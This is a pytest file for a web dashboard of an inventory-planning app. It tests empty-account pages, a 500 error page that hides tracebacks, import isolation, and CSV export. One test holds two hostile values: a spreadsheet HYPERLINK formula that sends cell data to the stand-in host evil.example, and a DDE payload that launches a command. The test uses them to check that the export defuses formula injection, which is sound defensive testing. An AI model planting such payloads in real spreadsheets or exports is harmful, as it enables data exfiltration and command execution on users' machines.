"""The app without a browser: an account with no data yet, a page that fails, and the
library staying free of the web's imports."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest

from ipi.settings import Settings

ROOT = Path(__file__).resolve().parents[2]


@contextmanager
def _client(settings: Settings) -> Iterator[httpx.Client]:
    """The real app under uvicorn on a free loopback port, and a client for it."""
    from ipi.web import start

    handle = start(settings, port=0)
    try:
        with httpx.Client(base_url=handle.url) as client:
            yield client
    finally:
        handle.stop()


def test_given_an_account_without_data_then_every_page_says_so(
        make_settings: Callable[..., tuple[Settings, Path]]) -> None:
    """A new account: the index and its page answer, the what-if and the CSV say why
    they cannot."""
    settings, _ = make_settings()
    with _client(settings) as client:
        index = client.get("/")
        page = client.get("/accounts/acme")
        whatif = client.get("/accounts/acme/whatif?restock=DEMO-0001")
        csv = client.get("/accounts/acme/drivers.csv?marketplace=US")
    assert index.status_code == 200 and "no estimate" in index.text
    assert page.status_code == 200
    assert "No report has been loaded for US yet" in page.text
    assert whatif.status_code == 400 and "has no estimate" in whatif.text
    assert csv.status_code == 400 and "has no estimate" in csv.text


def test_a_page_that_fails_answers_500_without_a_traceback(
        make_settings: Callable[..., tuple[Settings, Path]],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A bug shows a short page; the traceback goes to the log, never to the browser."""
    from ipi.web import views

    def broken(rows: object) -> list[object]:
        raise RuntimeError("secret detail of a bug")

    monkeypatch.setattr(views, "index", broken)
    settings, _ = make_settings()
    with _client(settings) as client:
        r = client.get("/")
    assert r.status_code == 500
    assert "Something went wrong" in r.text
    assert "secret detail" not in r.text and "Traceback" not in r.text


def test_importing_the_library_imports_no_web_framework() -> None:
    """``import ipi`` and ``ipi.api`` stay quick: Starlette, uvicorn and jinja2 are the
    dashboard's alone."""
    code = ("import sys, ipi, ipi.api; "
            "print(sorted(m for m in ('starlette', 'uvicorn', 'jinja2') if m in sys.modules))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         cwd=ROOT, check=True)
    assert out.stdout.strip() == "[]"


HOSTILE = {"sku": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
           "product_name": "+cmd|' /C calc'!A0"}


def test_the_drivers_csv_hands_no_formula_to_a_spreadsheet(
        scored_demo: tuple[Settings, Path]) -> None:
    """A SKU and a product name that a spreadsheet would run as formulas come back as
    text (a leading '); numbers stay numbers."""
    settings, _ = scored_demo
    import csv as csvlib

    from ipi import pipeline
    from ipi.api import Rows

    top = Rows(settings).drivers(account="acme", marketplace="US", n=1)[0].sku
    with pipeline.open_store(settings, settings.accounts[0]).write() as con:
        for table in ("fba_inventory_planning", "fba_myi_inventory", "stranded_inventory"):
            con.execute(f"UPDATE {table} SET sku = $sku, product_name = $product_name "
                        "WHERE sku = $top", {"sku": HOSTILE["sku"],
                                             "product_name": HOSTILE["product_name"], "top": top})
    with _client(settings) as client:
        got = client.get("/accounts/acme/drivers.csv?marketplace=US")
    assert got.status_code == 200
    rows = list(csvlib.DictReader(got.text.splitlines()))
    row = next(r for r in rows if "HYPERLINK" in r["sku"])
    assert row["sku"] == "'" + HOSTILE["sku"]
    assert row["name"] == "'" + HOSTILE["product_name"]
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    assert [float(r["gain"]) for r in rows if r["gain"]]  # numbers, negative ones too, as they were
